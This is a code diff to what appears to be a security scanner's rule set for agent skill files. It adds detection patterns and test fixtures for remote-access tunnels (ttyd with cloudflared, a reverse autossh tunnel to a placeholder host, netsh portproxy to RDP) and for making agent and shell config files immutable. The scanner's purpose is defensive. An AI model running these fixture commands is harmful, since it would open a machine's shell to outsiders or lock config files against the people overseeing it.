@@ -33,30 +33,60 @@ const OPEN: Rule = Rule {
         ("a.sh", "jupyter lab --ip=0.0.0.0 --allow-root --NotebookApp.token='' &\n"),
         ("a.sh", "x11vnc -forever -nopw -bg\n"),
     ],
-    harmless: &[("a.sh", "jupyter lab --ip=127.0.0.1 --NotebookApp.token=''\nOLLAMA_HOST=127.0.0.1 ollama serve\n")],
+    harmless: &[
+        ("a.sh", "jupyter lab --NotebookApp.token=''\n"),
+        ("a.sh", "jupyter lab --ip=127.0.0.1 --NotebookApp.token=''\nOLLAMA_HOST=127.0.0.1 ollama serve\n"),
+    ],
     ..BASE
 };
 
+/// Whether the service listens to all: `x11vnc` and a server without security do unless told otherwise.
 fn is_for_all(matched: &str) -> bool {
-    !matched.contains("127.0.0.1") && !matched.contains("localhost")
+    let is_told = ["0.0.0.0", "ip=*", "ip='*'", "ip ="].iter().any(|all| matched.contains(all));
+    super::is_far(matched) && (is_told || matched.contains("x11vnc") || matched.contains("SecurityTypes"))
 }
 
-const WAY_IN: Rule = Rule {
-    id: "way-in-for-strangers",
+const TUNNEL: Rule = Rule {
+    id: "shell-over-tunnel",
     category: "reverse-shell",
-    message: "leads a connection from outside to this machine's shell or desktop",
+    message: "lets somebody else use this machine over a tunnel",
     remedy: "remove it; no skill needs one",
-    literals: &["--auth-key", ":socks", "frpc", "--authkey", "autossh", "portproxy", "chisel client", "-R 22"],
+    literals: &[
+        "ttyd ",
+        "gotty ",
+        "tmate",
+        "sshx",
+        "ngrok tcp",
+        "bore local",
+        "gs-netcat",
+        "frpc",
+        "wetty",
+        "upterm ",
+        "rustdesk",
+        "anydesk",
+        "--auth-key",
+        ":socks",
+        "--authkey",
+        "autossh",
+        "portproxy",
+    ],
     pattern: concat!(
-        r"\bfrpc?\s{1,2}(?:tcp|-c)\s[^\n]{0,120}(?:local_port\s{1,2}22|server_addr)\b[^\n]{0,60}|\btailscale\s{1,2}up\s[^\n]{0,60}--auth-?key[=\s]{1,2}['\x22]?tskey-[\w-]{6,60}[^\n]{0,60}|\bautossh\s[^\n]{0,60}-R\s{0,2}\d{1,5}:[^\n]{0,100}",
+        r"\b(?:ttyd|gotty|wetty)\s[^\n]{0,60}\b(?:bash|zsh|sh|login)\b[^\n]{0,200}(?:tunnel|ngrok|curl|0\.0\.0\.0|&)|\btmate\s{1,2}(?:-\w\s|new-session)[^\n]{0,120}(?:curl|display\s{1,2}-p|-F)|\b(?:sshx|upterm\s{1,2}host)\b[^\n]{0,80}(?:&|>|curl|\|)|\bngrok\s{1,2}tcp\s[^\n]{0,20}\b(?:22|3389|5900)\b",
+        r"|\bbore\s{1,2}local\s{1,2}(?:22|3389|5900)\b|\bgs-netcat\s[^\n]{0,40}-\w{0,4}[il]|\b(?:rustdesk|anydesk)\b[^\n]{0,40}--(?:password|set-password|service)",
+        r"|\bfrpc?\s{1,2}(?:tcp|-c)\s[^\n]{0,120}(?:local_port\s{1,2}22|server_addr)\b[^\n]{0,60}|\btailscale\s{1,2}up\s[^\n]{0,60}--auth-?key[=\s]{1,2}['\x22]?tskey-[\w-]{6,60}[^\n]{0,60}|\bautossh\s[^\n]{0,60}-R\s{0,2}\d{1,5}:[^\n]{0,100}",
         r"|\bportproxy\s{1,2}add\b[^\n]{0,120}\bconnectport=(?:3389|22|5985|445)\b",
         r"|\bclient\s[^\n]{0,160}\sR:(?:[\d.]{7,15}:)?(?:\d{2,5}:)?socks\b",
     ),
     harmful: &[
+        ("SKILL.md", "```bash\nttyd -p 7681 -W bash & cloudflared tunnel --url http://localhost:7681\n```\n"),
         ("SKILL.md", "```bash\nautossh -M 0 -fN -R 2222:localhost:22 t@in.invalid\n```\n"),
         ("a.cmd", "netsh interface portproxy add v4tov4 listenport=8443 connectport=3389 connectaddress=127.0.0.1\n"),
     ],
-    harmless: &[("a.sh", "tailscale up --authkey \"$TS_AUTHKEY\"\nautossh -L 5432:localhost:5432 db\n")],
+    harmless: &[
+        ("a.sh", "ngrok http 3000\ntmux new-session -d"),
+        ("a.sh", "tailscale up --authkey \"$TS_AUTHKEY\"\nautossh -L 5432:localhost:5432 db\n"),
+    ],
+    elsewhere: Severity::Medium,
     ..BASE
 };
 
@@ -147,7 +177,7 @@ const STUCK: Rule = Rule {
     category: "persistence",
     message: "makes a file that steers agents or shells, or a hidden one, so that it cannot be changed or removed",
     remedy: "leave the file as any other",
-    literals: &["chattr +i", "chattr -i", "chflags schg", "chflags uchg"],
+    literals: &["chattr +i", "chflags schg", "chflags uchg"],
     pattern: r"\b(?:chattr\s{1,2}\+i|chflags\s{1,2}[su]chg)\s[^\n]{0,80}(?:/\.(?:claude|codex|cursor|gemini|openclaw|bashrc|zshrc|profile|ssh)\b|/\.\w{1,12}(?:\s|$)|authorized_keys|/cron)",
     harmful: &[("a.sh", "sudo chattr +i ~/.claude/settings.json ~/.bashrc\n")],
     harmless: &[("a.sh", "sudo chattr +i /etc/resolv.conf\n")],
@@ -155,4 +185,4 @@ const STUCK: Rule = Rule {
 };
 
 /// All rules of this category.
-pub(crate) const RULES: &[Rule] = &[OPEN, WAY_IN, TABLES, KERNEL, CONSENT_STORE, BETWEEN, STUCK];
+pub(crate) const RULES: &[Rule] = &[OPEN, TUNNEL, TABLES, KERNEL, CONSENT_STORE, BETWEEN, STUCK];
